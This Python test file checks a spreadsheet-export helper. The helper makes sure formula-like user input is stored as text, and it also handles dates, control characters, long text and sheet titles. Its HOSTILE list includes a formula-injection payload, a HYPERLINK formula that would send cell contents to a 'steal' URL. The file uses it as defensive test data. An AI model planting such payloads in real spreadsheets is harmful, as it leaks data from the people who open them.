"""Safe cells: user text lands as text (not a formula or error), dates as dates, Yes/No."""

from __future__ import annotations

import zipfile
from datetime import date, datetime, timedelta, timezone

import pytest
from openpyxl import Workbook, load_workbook

from pace_desktop.reports.cells import (
    MAX_CELL_CHARS,
    clean_text,
    cut_marker,
    put,
    safe_row,
    sheet_title,
)

HOSTILE = [
    '=HYPERLINK("http://example.org/steal?d="&A1,"Click")',
    "=1+1",
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tx",
    "\r=1",
    "#N/A",
    "#DIV/0!",
    "=",
    "-",
]


def sheet_xml(path, index: int = 1) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read(f"xl/worksheets/sheet{index}.xml").decode("utf-8")


def _write_only_book(tmp_path, values):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Data")
    ws.append(safe_row(ws, values))
    path = tmp_path / "w.xlsx"
    wb.save(path)
    return path


def _normal_book(tmp_path, values):
    wb = Workbook()
    ws = wb.active
    for col, value in enumerate(values, 1):
        put(ws, 1, col, value)
    path = tmp_path / "n.xlsx"
    wb.save(path)
    return path


@pytest.mark.parametrize("writer", [_write_only_book, _normal_book], ids=["write-only", "normal"])
def test_formula_like_text_is_text(tmp_path, writer):
    path = writer(tmp_path, HOSTILE)
    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    assert 't="e"' not in xml
    cells = list(load_workbook(path).active.iter_rows(values_only=False))[0]
    for cell, typed in zip(cells, HOSTILE, strict=True):
        assert cell.data_type == "s"
        # XML turns a bare carriage return into a newline; everything else comes back exactly.
        assert cell.value == typed.replace("\r", "\n") or cell.value == typed
        assert cell.quotePrefix, "editing the cell in Excel or Calc must keep it text"


def test_bare_openpyxl_would_have_written_a_formula(tmp_path):
    """The hazard this module exists for (SECURITY-NOTES.md): a check on openpyxl itself."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Data")
    ws.append(["=1+1", "#N/A"])
    wb.save(tmp_path / "bare.xlsx")
    xml = sheet_xml(tmp_path / "bare.xlsx")
    assert "<f>" in xml and 't="e"' in xml


@pytest.mark.parametrize("writer", [_write_only_book, _normal_book], ids=["write-only", "normal"])
def test_types(tmp_path, writer):
    when = datetime(2026, 3, 4, 9, 30, tzinfo=timezone(timedelta(hours=1)))
    path = writer(tmp_path, [date(2026, 3, 4), when, 42, 2.5, True, False, "Mòrag NicLeòid", None, "x"])
    row = list(load_workbook(path).active.iter_rows())[0]
    assert row[0].is_date and row[0].value == datetime(2026, 3, 4)
    assert row[1].is_date and row[1].value == datetime(2026, 3, 4, 8, 30)  # stored in UTC
    assert row[2].value == 42 and row[2].data_type == "n"
    assert row[3].value == 2.5
    assert (row[4].value, row[5].value) == ("Yes", "No")
    assert row[6].value == "Mòrag NicLeòid"
    assert row[7].value is None
    assert row[0].number_format.startswith("yyyy-mm-dd")


def test_control_characters_are_stripped_not_raised(tmp_path):
    nasty = "Ewan\x00 Mac\x07Leod\x1b[31m\x7f\x85\ud800\uffff"
    path = _write_only_book(tmp_path, [nasty, "line one\nline two\ttab"])
    row = list(load_workbook(path).active.iter_rows(values_only=True))[0]
    assert row == ("Ewan MacLeod[31m", "line one\nline two\ttab")


def test_long_text_is_cut_with_a_visible_marker(tmp_path):
    text = "a" * 40_000
    cleaned = clean_text(text)
    assert len(cleaned) == MAX_CELL_CHARS
    assert cleaned.endswith(cut_marker(40_000 - cleaned.index(" …")))
    assert cleaned.startswith("a" * 32_000)
    path = _write_only_book(tmp_path, [text, "=" + text])
    row = list(load_workbook(path).active.iter_rows(values_only=True))[0]
    assert row[0] == cleaned
    assert row[1].startswith("=aaa") and "[cut:" in row[1]
    assert "<f>" not in sheet_xml(path)


@pytest.mark.parametrize("length", [MAX_CELL_CHARS, MAX_CELL_CHARS + 1, MAX_CELL_CHARS + 9, 10**6])
def test_cut_lengths(length):
    cleaned = clean_text("b" * length)
    # Exactly full, unless the marker's count gains a digit right at the edge.
    assert MAX_CELL_CHARS - 2 <= len(cleaned) <= MAX_CELL_CHARS
    kept = cleaned.split(" …")[0]
    assert cleaned == kept or cleaned.endswith(cut_marker(length - len(kept)))
    assert (length == MAX_CELL_CHARS) == ("[cut:" not in cleaned)


def test_sheet_titles_are_valid_and_unique():
    taken: set[str] = set()
    first = sheet_title("2026-03-04 Clydeside [Precision]: Castings/Ltd*?", taken)
    second = sheet_title("2026-03-04 Clydeside [Precision]: Castings/Ltd*?", taken)
    assert len(first) <= 31 and len(second) <= 31
    assert not set("[]:*?/\\") & set(first + second)
    assert first != second
    assert sheet_title("History", taken) != "History"  # a name Excel reserves
    assert sheet_title("'\x00'", taken) == "Sheet"
